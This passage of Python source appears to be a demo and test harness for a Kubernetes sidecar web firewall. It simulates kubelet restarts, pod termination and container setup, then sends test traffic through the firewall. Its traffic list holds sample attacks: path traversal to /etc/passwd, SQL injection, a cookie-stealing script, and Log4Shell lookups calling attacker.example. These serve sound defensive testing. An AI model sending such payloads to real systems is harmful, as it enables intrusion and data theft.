                    raise PodFailed("container %s: port %d not listening after %.0f s" % (
                        c["name"], p["containerPort"], self.ready_timeout))
                time.sleep(0.1)

    # -- restarts (the kubelet's restartPolicy and back-off) --------------------------------------
    BACKOFF_INITIAL_S, BACKOFF_MAX_S, BACKOFF_RESET_S = 10.0, 300.0, 600.0

    def _restartable(self):
        """{name: restart on exit code 0 too} for the containers the kubelet restarts."""
        spec = self.pod["spec"]
        policy = spec.get("restartPolicy", "Always")
        out = {c["name"]: True for c in spec.get("initContainers") or []
               if c.get("restartPolicy") == "Always"}
        if policy in ("Always", "OnFailure"):
            for c in spec.get("containers") or []:
                out[c["name"]] = policy == "Always"
        return out

    def _backoff(self, name, now):
        """Seconds the kubelet waits before this restart: none for the first, then 10 s doubling
        up to 300 s; forgotten when the last restart is more than 10 minutes old."""
        mine = [r for r in self.restarts if r["container"] == name and r.get("restarted_at")]
        if not mine or now - mine[-1]["restarted_at"] > self.BACKOFF_RESET_S:
            return 0.0
        # the restarts in a row, each within 10 minutes of the next
        recent, later = 0, now
        for r in reversed(mine):
            if later - r["restarted_at"] > self.BACKOFF_RESET_S:
                break
            recent, later = recent + 1, r["restarted_at"]
        return min(self.BACKOFF_INITIAL_S * 2 ** min(recent - 1, 16), self.BACKOFF_MAX_S)

    def _watch(self):
        """Runs while the pod runs: restarts what exits, as the kubelet does."""
        restartable = self._restartable()
        pending = {}  # name -> (restart at, record)
        while not self._ending.is_set():
            now = time.monotonic()
            with self._lock:
                for name, always in restartable.items():
                    p = self.procs.get(name)
                    if p is None or name in pending or p.poll() is None:
                        continue
                    rc = p.returncode
                    rec = {"container": name, "exit_code": rc, "exited_at": now,
                           "restarted_at": None}
                    self.restarts.append(rec)
                    if rc == 0 and not always:
                        continue
                    wait = self._backoff(name, now)
                    self.log("container %s exited (%s); restarting %s" % (
                        name, ("signal %d" % -rc) if rc < 0 else "code %d" % rc,
                        "now" if not wait else "after the back-off, %.0f s" % wait))
                    pending[name] = (now + wait, rec)
                for name, (when, rec) in list(pending.items()):
                    if now < when or self._ending.is_set():
                        continue
                    del pending[name]
                    try:
                        _, spec = self._launch(self.container(name))
                    except (OSError, PodFailed) as e:
                        self.log("container %s: restart failed: %s" % (name, e))
                        continue
                    rec["restarted_at"] = time.monotonic()
                    self._read_identity(spec)
                    self._post_start(self.container(name))
            self._ending.wait(0.005)

    def restart_count(self, name):
        return sum(1 for r in self.restarts if r["container"] == name and r["restarted_at"])

    # -- termination (the kubelet's order on pod deletion) -------------------------------------
    def terminate(self, grace=None):
        """Deletes the pod as the kubelet would and returns the timeline
        [(seconds since the deletion, container, what)]: every container's preStop hook starts
        at once; a container gets SIGTERM when its hook is done (native sidecars: and only once
        every regular container and every sidecar after it has exited); SIGKILL when
        terminationGracePeriodSeconds (counted from the deletion, hooks included; at least 2 s
        left for SIGTERM) has passed. Nothing is restarted meanwhile. The namespaces stay until
        stop()."""
        spec = self.pod["spec"]
        grace = spec.get("terminationGracePeriodSeconds", 30) if grace is None else grace
        self._ending.set()
        if self._watcher is not None:
            self._watcher.join(10)
        t0 = time.monotonic()
        deadline = t0 + grace
        timeline = []
        tl_lock = threading.Lock()

        def note(name, what):
            with tl_lock:
                timeline.append((round(time.monotonic() - t0, 3), name, what))
                self.log("  t=%.2fs %s: %s" % (timeline[-1][0], name, what))

        regular = [c["name"] for c in spec.get("containers") or []]
        sidecars = [c["name"] for c in spec.get("initContainers") or []
                    if c.get("restartPolicy") == "Always"]

        done = {n: threading.Event() for n in regular + sidecars}

        def end(name, wait_for):
            try:
                end_one(name, wait_for)
            finally:
                done[name].set()

        def end_one(name, wait_for):
            c, p = self.container(name), self.procs.get(name)
            if p is None or p.poll() is not None:
                return
            hook = (c.get("lifecycle") or {}).get("preStop")
            if hook:
                note(name, "preStop %s" % ",".join(sorted(hook)))
                self._run_hook(c, hook, deadline)
                note(name, "preStop done")
            while wait_for and not all(done[n].is_set() for n in wait_for) and \
                    time.monotonic() < deadline:
                time.sleep(0.005)
            if p.poll() is None:
                p.send_signal(signal.SIGTERM)
                note(name, "SIGTERM")
            try:
                p.wait(max(deadline - time.monotonic(), 2.0))
            except subprocess.TimeoutExpired:
                p.kill()
                p.wait()
                note(name, "SIGKILL (grace period over)")
                return
            rc = p.returncode
            note(name, "exited %s" % (("signal %d" % -rc) if rc < 0 else "code %d" % rc))

        threads = []
        for name in regular:
            threads.append(threading.Thread(target=end, args=(name, [])))
        for i, name in enumerate(sidecars):
            threads.append(threading.Thread(target=end, args=(name, regular + sidecars[i + 1:])))
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        return timeline

    def _run_hook(self, c, hook, deadline):
        left = max(deadline - time.monotonic(), 0.0)
        if "sleep" in hook:
            time.sleep(min(float(hook["sleep"].get("seconds", 0)), left))
        elif "exec" in hook:
            # inside the container: its mount namespace, identity and environment
            spec, p = self._specs.get(c["name"]), self.procs.get(c["name"])
            cmd = ["nsenter", "--target", str(p.pid), "--mount", "--net"] + spec["setpriv"] + \
                list(hook["exec"].get("command") or [])
            try:
                subprocess.run(cmd, env=spec["env"], capture_output=True, timeout=left or 0.01)
            except (OSError, subprocess.TimeoutExpired):
                pass
        elif "httpGet" in hook:
            g = hook["httpGet"]
            url = "%s://%s:%d%s" % (g.get("scheme", "HTTP").lower(), g.get("host") or self.ip,
                                    self._port(c, g.get("port")), g.get("path", "/"))
            self.client(["curl", "-s", "-k", "-o", "/dev/null", "-m", "%.1f" % max(left, 0.1),
                         url], check=False, timeout=left + 5)
        else:
            self.notes.append("container %s: preStop %s not run" % (c["name"], list(hook)))

    # -- for the caller --------------------------------------------------------------------------
    def rerun_init(self, name):
        """Runs an init container again, as after a pod sandbox restart (PodFailed if it fails)."""
        self._run_init(self.container(name))

    def read_output(self, name):
        out = err = ""
        for f in getattr(self, "_files", []):
            f.flush()
        for ext in ("stdout", "stderr"):
            try:
                with open(os.path.join(self.dir, "%s.%s" % (name, ext))) as f:
                    if ext == "stdout":
                        out = f.read()
                    else:
                        err = f.read()
            except OSError:
                pass
        return out, err

    def client(self, argv, check=True, timeout=30):
        """Runs argv in the client namespace."""
        return run(["ip", "netns", "exec", self.clientns] + list(argv), check=check,
                   timeout=timeout)

    def inpod(self, argv, check=True, timeout=30):
        """Runs argv in the pod's network namespace as root (like `kubectl debug`)."""
        return run(["ip", "netns", "exec", self.netns] + list(argv), check=check,
                   timeout=timeout)

    def container(self, name):
        for c in (self.pod["spec"].get("containers") or []) + \
                 (self.pod["spec"].get("initContainers") or []):
            if c["name"] == name:
                return c
        return None

    def port_named(self, name):
        for c in self.pod["spec"].get("containers") or []:
            for p in c.get("ports") or []:
                if p.get("name") == name:
                    return p["containerPort"]
        return None


def _expand(s, env):
    """Kubernetes $(VAR) expansion ($$ escapes)."""
    if not isinstance(s, str):
        return s

    def sub(m):
        if m.group(0) == "$$":
            return "$"
        return env.get(m.group(1), m.group(0))
    return re.sub(r"\$\$|\$\(([A-Za-z_][A-Za-z0-9_.-]*)\)", sub, s)


# -- inside the pod: one container's process -----------------------------------------------------
CONTAINER_NOFILE = (1024, 524288)


def container_nofile():
    """(soft, hard) RLIMIT_NOFILE for a container: the runtime's, or as close as this process may
    go (raising the hard limit needs CAP_SYS_RESOURCE)."""
    with open("/proc/sys/fs/nr_open") as f:
        hard = min(CONTAINER_NOFILE[1], int(f.read()))
    cur_soft, cur_hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard > cur_hard:
        with open("/proc/self/status") as f:
            eff = [int(line.split()[1], 16) for line in f if line.startswith("CapEff:")]
        if not (eff and eff[0] & (1 << 24)):  # CAP_SYS_RESOURCE
            hard = cur_hard
    return min(CONTAINER_NOFILE[0], hard), hard


def exec_container(spec_path):
    """Runs in the pod's namespace (ip netns exec gives it a private mount namespace): mounts
    the volumes, makes / read-only when asked, records the identity setpriv gives, then becomes
    the container's process."""
    with open(spec_path) as f:
        spec = json.load(f)

    def sh(*argv):
        r = subprocess.run(list(argv), capture_output=True, text=True)
        if r.returncode != 0:
            sys.stderr.write("container setup failed: %s: %s" % (" ".join(argv), r.stderr))
            sys.exit(128)

    # the runner's status directory stays writable when / becomes read-only (own mount)
    statusdir = os.path.dirname(spec["identity_out"])
    sh("mount", "--bind", statusdir, statusdir)
    scratch = spec["scratch"]
    sh("mount", "-t", "tmpfs", "-o", "mode=0755", "bulwark-scratch", scratch)
    overlays = []
    # Mount points first, binds after: an overlay made for a later mount point (e.g. the service
    # account token under /var/run, which is /run here) would otherwise hide an earlier bind.
    for i, m in enumerate(spec["mounts"]):
        dst = m["dst"]
        if not os.path.lexists(dst):
            anc = os.path.dirname(dst.rstrip("/"))
            while not os.path.isdir(anc):
                anc = os.path.dirname(anc)
            up, work = os.path.join(scratch, "up%d" % i), os.path.join(scratch, "work%d" % i)
            os.makedirs(up)
            os.makedirs(work)
            sh("mount", "-t", "overlay", "overlay", "-o",
               "lowerdir=%s,upperdir=%s,workdir=%s" % (anc, up, work), anc)
            overlays.append(anc)
            if os.path.isdir(m["src"]):
                os.makedirs(dst, exist_ok=True)
            else:
                os.makedirs(os.path.dirname(dst), exist_ok=True)
                open(dst, "w").close()
    for m in spec["mounts"]:
        sh("mount", "--bind", m["src"], m["dst"])
        if m["ro"]:
            sh("mount", "-o", "remount,bind,ro", m["dst"])
    if spec["ro_root"]:
        sh("mount", "-o", "remount,bind,ro", "/")
        for anc in overlays:
            sh("mount", "-o", "remount,ro", anc)
    os.chdir(spec["cwd"])
    # the open-file limit a container runtime gives (containerd on systemd 240+: 1024 / 524288);
    # without CAP_SYS_RESOURCE the runner's own hard limit is the most there is
    resource.setrlimit(resource.RLIMIT_NOFILE, container_nofile())
    with open(spec["identity_out"], "w") as ident:
        r = subprocess.run(spec["setpriv"] + ["cat", "/proc/self/status"], capture_output=True,
                           text=True, env=spec["env"])
        ident.write("".join(line + "\n" for line in r.stdout.splitlines()
                            if line.split(":")[0] in ("Uid", "Gid", "CapEff", "CapBnd", "CapPrm",
                                                      "NoNewPrivs")))
    open(spec["identity_out"] + ".done", "w").close()
    argv = spec["setpriv"] + spec["argv"]
    os.execvpe(argv[0], argv, spec["env"])


# -- the demo -------------------------------------------------------------------------------------
BOLD = "\033[1m" if sys.stdout.isatty() else ""
RESET = "\033[0m" if sys.stdout.isatty() else ""
GREEN = "\033[32m" if sys.stdout.isatty() else ""
RED = "\033[31m" if sys.stdout.isatty() else ""

# (name, kind, argv for curl after the URL base is known)
TRAFFIC = [
    ("GET /", "clean", "/", []),
    ("GET /api/items?id=42", "clean", "/api/items?id=42", []),
    ("POST /api/comments (form)", "clean", "/api/comments",
     ["--data", "name=Ann&comment=Great+shop%2C+will+order+again"]),
    ("GET /api/items?q=select the best option", "clean", "/api/items?q=select+the+best+option", []),
    ("GET /etc/passwd", "attack", "/etc/passwd", []),
    ("GET /search?q=1' UNION SELECT password FROM users--", "attack",
     "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", []),
    ("GET /?name=<script>alert(document.cookie)</script>", "attack",
     "/?name=%3Cscript%3Ealert(document.cookie)%3C/script%3E", []),
    ("POST /api/login (Log4Shell in JSON body)", "attack", "/api/login",
     ["-H", "Content-Type: application/json",
      "--data", '{"user":"${jndi:ldap://attacker.example/a}","password":"x"}']),
    ("GET / (Log4Shell in User-Agent)", "attack", "/",
     ["-H", "User-Agent: ${jndi:ldap://attacker.example/x}"]),
]


def demo_standin(c):
    ports = [p["containerPort"] for p in c.get("ports") or [] if p.get("protocol", "TCP") == "TCP"]
    port = ports[0] if ports else 80
    app = os.path.join(REPO, "examples", "demo_app.py")
    return ([sys.executable, "-B", app, "--port", str(port)],
            "local stand-in %s on :%d (the image itself is not pulled or run)"
            % (os.path.relpath(app, REPO), port))


def _metrics(runner):
    res = runner.client(["curl", "-s", "-m", "5", "http://%s:10246/metrics" % runner.ip],
                        check=False)
    return res.stdout


def _metric_sum(text, name, match=""):
    total = 0.0
    for line in text.splitlines():
        if line.startswith(name) and match in line:
            try:
                total += float(line.rsplit(None, 1)[1])
            except (IndexError, ValueError):
                pass
    return total


def run_traffic(runner, port, out=print):
    """Each request of TRAFFIC from the client namespace to the pod IP (v4; the first clean one
    and the first attack also over v6). Returns [(name, kind, family, status, request_id)]."""
    results = []
    plan = [(n, k, p, extra, runner.ip) for n, k, p, extra in TRAFFIC]
    plan.insert(1, ("GET / over IPv6", "clean", "/", [], runner.ip6))
    plan.append(("GET /etc/passwd over IPv6", "attack", "/etc/passwd", [], runner.ip6))
    for name, kind, path, extra, host in plan:
        h = "[%s]" % host if ":" in host else host
        res = runner.client(["curl", "-s", "--path-as-is", "-m", "5", "-o", "/dev/null",
                             "-D", "-", "-w", "\n%{http_code}", "http://%s:%d%s" % (h, port, path)]
                            + extra, check=False)
        code = res.stdout.strip().rsplit("\n", 1)[-1]
        status = int(code) if code.isdigit() else 0
        rid = ""
        for line in res.stdout.splitlines():
            if line.lower().startswith("x-request-id:"):
                rid = line.split(":", 1)[1].strip()
        results.append({"name": name, "kind": kind, "family": "v6" if ":" in host else "v4",
                        "status": status, "request_id": rid})
        out("  %-58s %-6s -> %s" % (name[:58], kind, status or "no answer (%s)" %
                                    res.stderr.strip()[:60]))
    return results


def events_of(runner):
    out, _ = runner.read_output("bulwark-proxy")
    events = []
    for line in out.splitlines():
        try:
            e = json.loads(line)
        except ValueError:
            continue
        if isinstance(e, dict) and e.get("type") == "attack":
            events.append(e)
    return events


def demo(args):
    out = print
    bindir = args.bin
    for b in ("bulwark-init", "bulwark-proxy", "bulwark-webhook"):
        if not os.access(os.path.join(bindir, b), os.X_OK):
            out("demo: %s not found in %s" % (b, bindir))
            return 2
    objects = load_objects(args.deployment)
    deps = [o for o in objects if o.get("kind") == "Deployment"]
    if not deps:
        out("demo: no Deployment in %s" % args.deployment)
        return 2
    configmaps = {o["metadata"]["name"]: o.get("data", {}) for o in objects
                  if o.get("kind") == "ConfigMap"}
    modes = [m for m in args.mode.split(",") if m]
    work = tempfile.mkdtemp(prefix="bulwark-demo-")
    summary = []   # (scenario, ok, figure)
    report = {"capture": args.capture, "schema": args.schema, "runs": []}
    step = lambda s: out("\n%s== %s%s" % (BOLD, s, RESET))  # noqa: E731
    webhook = cp = None
    try:
        if args.apiserver:
            sys.path.insert(0, os.path.join(REPO, "tests", "k8s"))
            import controlplane
            step("a real control plane: etcd, kube-apiserver, kube-controller-manager "
                 "(network namespace of their own; no kubelet)")
            cp = controlplane.ControlPlane(args.k8s_bin, args.helm_bin)
            cp.start()
            version = cp.kubectl_json("version").get("serverVersion", {}).get("gitVersion")
            out("  kube-apiserver %s up in %.1f s" % (version, cp.timings["start_s"]))
            step("helm install bulwark charts/bulwark; the webhook runs with the chart's "
                 "certificate behind its Service")
            cp.install_chart(os.path.join(REPO, "charts", "bulwark"))
            cp.start_webhook(os.path.join(bindir, "bulwark-webhook"))
            out("  Service %s/%s -> %s:8443 (failurePolicy as the chart sets it)"
                % (cp.release_ns, cp.webhook_service, controlplane.WEBHOOK_IP))
            cp.namespace("demo")
        else:
            step("bulwark-webhook on 127.0.0.1 over TLS (throwaway self-signed certificate)")
            webhook = Webhook(os.path.join(bindir, "bulwark-webhook"), work)
            out("  listening on https://127.0.0.1:%d/inject (certificate %s)"
                % (webhook.port, webhook.cert))
        dep = deps[0]
        out("  example: %s, Deployment %s, pod labels %s" % (
            os.path.relpath(args.deployment), dep["metadata"]["name"],
            json.dumps(dep["spec"]["template"]["metadata"].get("labels", {}))))
        for mode in modes:
            pod = pod_from_deployment(dep)
            ann = pod["metadata"].setdefault("annotations", {})
            prefix = "sidecar.bulwark.dev/"
            if args.capture != "auto":
                ann[prefix + "capture-mode"] = args.capture
            if args.schema:
                ann[prefix + "sidecar-injection-schema"] = args.schema
            if mode != "monitoring" or args.mode_annotation_always:
                ann[prefix + "mode"] = mode
            step("filter mode %s: %s (annotations %s)" % (
                mode, ("kubectl apply of Deployment %s; the API server calls the webhook"
                       if cp is not None else "AdmissionReview for a new pod of %s")
                % dep["metadata"]["name"], json.dumps(ann) if ann else "none"))
            if cp is not None:
                d = copy.deepcopy(dep)
                d["metadata"]["namespace"] = "demo"
                d["metadata"]["name"] = "%s-%s" % (dep["metadata"]["name"], mode.replace("_", "-"))
                sel = {"demo-mode": mode.replace("_", "-")}
                d["spec"]["selector"].setdefault("matchLabels", {}).update(sel)
                d["spec"]["template"]["metadata"]["labels"].update(sel)
                d["spec"]["template"]["metadata"]["annotations"] = ann
                res = cp.apply(d)
                out("  kubectl apply: %s" % res.stdout.strip())
                patched = cp.pod_of(d)
                out("  the ReplicaSet controller created Pod %s; read back from the API server"
                    % patched["metadata"]["name"])
                resp, patch = {"allowed": True}, ["(applied by the API server)"]
                if "sidecar.bulwark.dev/status" not in patched["metadata"].get("annotations", {}):
                    resp, patch = {"allowed": True, "stored": "not injected"}, []
            else:
                resp, patched, patch = webhook.review(pod)
                out("  allowed: %s, patch: %d operations (%s), warnings: %s" % (
                    resp.get("allowed"), len(patch),
                    ", ".join("%s %s" % (p["op"], p["path"]) for p in patch),
                    resp.get("warnings") or "none"))
            if not resp.get("allowed") or not patch:
                out("  the webhook did not inject: %s" % json.dumps(resp)[:400])
                summary.append(("%s: injection" % mode, False, "not injected"))
                continue
            status = json.loads(patched["metadata"]["annotations"]["sidecar.bulwark.dev/status"])
            out("  injected: init %s, containers %s, capture %s, proxy port %s" % (
                status.get("initContainers", []), status.get("containers", []),
                status.get("capture"), status.get("proxyPort")))
            runner = PodRunner(patched, bindir, demo_standin,
                               configmaps=configmaps, log=lambda s: out(s))
            step("running the patched pod like a kubelet (pod netns %s, pod IP %s / %s; "
                 "client netns %s, %s / %s)" % (runner.netns, POD_V4, POD_V6, runner.clientns,
                                                CLIENT_V4, CLIENT_V6))
            run_rec = {"mode": mode, "status": status}
            try:
                runner.start()
            except PodFailed as e:
                out("%s  POD FAILED: %s%s" % (RED, e, RESET))
                summary.append(("%s: pod starts" % mode, False, str(e).splitlines()[0][:60]))
                report["runs"].append(dict(run_rec, failed=str(e)))
                if args.json_out:
                    with open(args.json_out, "w") as f:
                        json.dump(report, f, indent=1)
                return 1
            try:
                for name, (rc, o, e) in runner.init_output.items():
                    out("  %s exited %d:" % (name, rc))
                    for line in o.splitlines():
                        out("    " + line)
                    why = [json.loads(l) for l in e.splitlines()
                           if l.startswith("{") and '"capture mode"' in l]
                    if why:
                        run_rec["capture_mode"] = why[0].get("mode")
                        run_rec["capture_why"] = why[0].get("why")
                for name, ident in runner.identity.items():
                    out("  identity %-14s uid %d gid %d effective caps %s bounding %s%s" % (
                        name, ident["uid"], ident["gid"], ",".join(ident["caps"]) or "none",
                        ",".join(ident["bounding"]) or "none",
                        " no_new_privs" if ident["nnp"] else ""))
                run_rec["identity"] = runner.identity
                for n in runner.notes:
                    out("  note: " + n)
                captured = status.get("capture") not in (None, "none", "off", False)
                port = (status.get("appPort") or runner.port_named("http") or 8080) \
                    if captured else runner.port_named("proxy")
                if captured:
                    out("  capture: %s (%s) — clients use the app port %d"
                        % (run_rec.get("capture_mode", "?"), run_rec.get("capture_why", "?"),
                           port))
                else:
                    out("  capture off: no init container; clients use the container port "
                        "'proxy' (%d), as a Service with targetPort: proxy would" % port)
                step("traffic from the client namespace (%s) to http://%s:%d (mode %s)"
                     % (CLIENT_V4, POD_V4, port, mode))
                before = _metrics(runner)
                reqs = run_traffic(runner, port, out)
                time.sleep(0.3)
                events = events_of(runner)
                metrics = _metrics(runner)
                run_rec.update(requests=reqs, events=events)
                step("attack events (bulwark-proxy stdout, one JSON line each)")
                for e in events:
                    f = (e.get("findings") or [{}])[0]
                    out("  %-8s client %-12s %-6s %-40s %s [%s: %s]" % (
                        e.get("action"), e.get("client"), e.get("method"),
                        (e.get("path") or "")[:40], ",".join(e.get("classes", [])),
                        f.get("part", ""), str(f.get("value", ""))[:30]))
                step("metrics (excerpt, http://%s:10246/metrics)" % POD_V4)
                for line in metrics.splitlines():
                    if re.match(r"^bulwark_(requests_total|attacks_total|blocked_total|"
                                r"connections_total)", line) and not line.endswith(" 0"):
                        out("  " + line)
                # what the app saw of the clean requests
                app_view = runner.client(["curl", "-s", "-m", "5", "http://%s:%d/whoami" % (
                    runner.ip, port)], check=False).stdout
                try:
                    seen = json.loads(app_view)
                except ValueError:
                    seen = {}
                run_rec["app_view"] = seen
                out("  the app saw: peer %s, X-Forwarded-For %s" % (
                    seen.get("peer"), seen.get("headers", {}).get("x-forwarded-for")))
                # judgement
                blocking = mode == "block"
                inspecting = mode != "off"
                clean = [r for r in reqs if r["kind"] == "clean"]
                attacks = [r for r in reqs if r["kind"] == "attack"]
                ok_clean = all(r["status"] == 200 for r in clean)
                summary.append(("%s: clean requests -> 200" % mode, ok_clean,
                                "%d/%d" % (sum(r["status"] == 200 for r in clean), len(clean))))
                want = 403 if blocking else 200
                ok_att = all(r["status"] == want for r in attacks)
                summary.append(("%s: attacks -> %d" % (mode, want), ok_att,
                                "%d/%d" % (sum(r["status"] == want for r in attacks),
                                           len(attacks))))
                ev_ids = {e.get("request_id") for e in events}
                logged = sum(1 for r in attacks if r["request_id"] in ev_ids)
                summary.append(("%s: %s" % (mode, "attack events logged" if inspecting
                                             else "no inspection, no events"),
                                logged == (len(attacks) if inspecting else 0),
                                "%d/%d" % (logged, len(attacks))))
                if inspecting:
                    acts = {e.get("action") for e in events}
                    summary.append(("%s: event action" % mode,
                                    bool(events) and all((a == "blocked") == blocking
                                                         for a in acts),
                                    ",".join(sorted(a for a in acts if a)) or "-"))
                    clients = {e.get("client") for e in events}
                    summary.append(("%s: proxy logs the client address" % mode,
                                    bool(clients) and clients <= {CLIENT_V4, CLIENT_V6},
                                    ",".join(sorted(c for c in clients if c)) or "-"))
                ident = runner.identity
                pi, ii = ident.get("bulwark-proxy", {}), ident.get("bulwark-init")
                summary.append(("%s: proxy uid 101, caps within NET_BIND_SERVICE" % mode,
                                pi.get("uid") == 101 and set(pi.get("caps", ["?"])) <=
                                {"NET_BIND_SERVICE"} and set(pi.get("bounding", ["?"])) <=
                                {"NET_BIND_SERVICE"},
                                "uid %s caps %s" % (pi.get("uid"),
                                                    ",".join(pi.get("caps", [])) or "none")))
                if ii is not None:
                    summary.append(("%s: init ran with the spec's caps only" % mode,
                                    set(ii["caps"]) == set(effective_caps(merged_security(
                                        runner.pod["spec"].get("securityContext"),
                                        runner.container("bulwark-init").get(
                                            "securityContext")))[0]),
                                    ",".join(ii["caps"]) or "none"))
                xff = seen.get("headers", {}).get("x-forwarded-for")
                summary.append(("%s: app sees proxy 127.0.0.6, XFF client" % mode,
                                seen.get("peer") == "127.0.0.6" and xff == CLIENT_V4,
                                "%s / %s" % (seen.get("peer"), xff)))
                attacks_metric = _metric_sum(metrics, "bulwark_attacks_total") - \
                    _metric_sum(before, "bulwark_attacks_total")
                summary.append(("%s: bulwark_attacks_total counts them" % mode,
                                attacks_metric == (len(attacks) if inspecting else 0),
                                "+%d" % attacks_metric))
                if captured:
                    summary.append(("%s: capture mode" % mode, bool(run_rec.get("capture_mode")),
                                    run_rec.get("capture_mode", "-")))
                report["runs"].append(run_rec)
            finally:
                step("stopping the pod (SIGTERM by namespace, then the namespaces go)")
                runner.stop()
    finally:
        if webhook:
            webhook.stop()
        if cp:
            step("stopping the control plane")
            cp.stop()
        shutil.rmtree(work, ignore_errors=True)
    step("summary")
    width = max(len(s[0]) for s in summary) if summary else 10
    out("  %-*s  %-6s %s" % (width, "scenario", "result", "figure"))
    for name, ok, fig in summary:
        out("  %-*s  %s%-6s%s %s" % (width, name, GREEN if ok else RED, "pass" if ok else "FAIL",
                                      RESET, fig))
    report["summary"] = [{"scenario": n, "ok": ok, "figure": f} for n, ok, f in summary]
    report["ok"] = bool(summary) and all(ok for _, ok, _ in summary)
    if args.json_out:
        with open(args.json_out, "w") as f:
            json.dump(report, f, indent=1)
    return 0 if report["ok"] else 1


def main(argv):
    if len(argv) >= 2 and argv[0] == "--exec-container":
        exec_container(argv[1])
        return 127
    import argparse
    ap = argparse.ArgumentParser(prog="podrunner.py")
    sub = ap.add_subparsers(dest="cmd", required=True)
    d = sub.add_parser("demo", help="webhook -> patched pod -> traffic (scripts/demo.sh)")
    d.add_argument("--bin", default=os.path.join(REPO, "build", "bin"))
    d.add_argument("--deployment", default=os.path.join(REPO, "examples", "app-deployment.yaml"))
    d.add_argument("--capture", default="auto",
                   choices=["auto", "nftables", "iptables", "ebpf", "none"])
    d.add_argument("--mode", default="monitoring,block",
                   help="filter modes to show, in order (default monitoring,block)")
    d.add_argument("--schema", default="single")
    d.add_argument("--mode-annotation-always", action="store_true")
    d.add_argument("--json-out")
    d.add_argument("--apiserver", action="store_true",
                   help="through a real API server (tests/k8s): helm install, kubectl apply, "
                        "the stored Pod")
    d.add_argument("--k8s-bin", default=os.path.join(REPO, ".cache", "k8s", "bin"))
    d.add_argument("--helm-bin", default=os.path.join(REPO, ".cache", "helm", "bin"))
    args = ap.parse_args(argv)
    if not is_root_with_net_admin():
        print("podrunner: needs root with CAP_NET_ADMIN (network namespaces, netfilter)")
        return 2
    # SIGTERM and SIGINT end the run through the finally blocks, which stop the pods (a
    # background job of a script starts with SIGINT ignored, so it is set explicitly).
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    signal.signal(signal.SIGINT, signal.default_int_handler)
    return demo(args)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
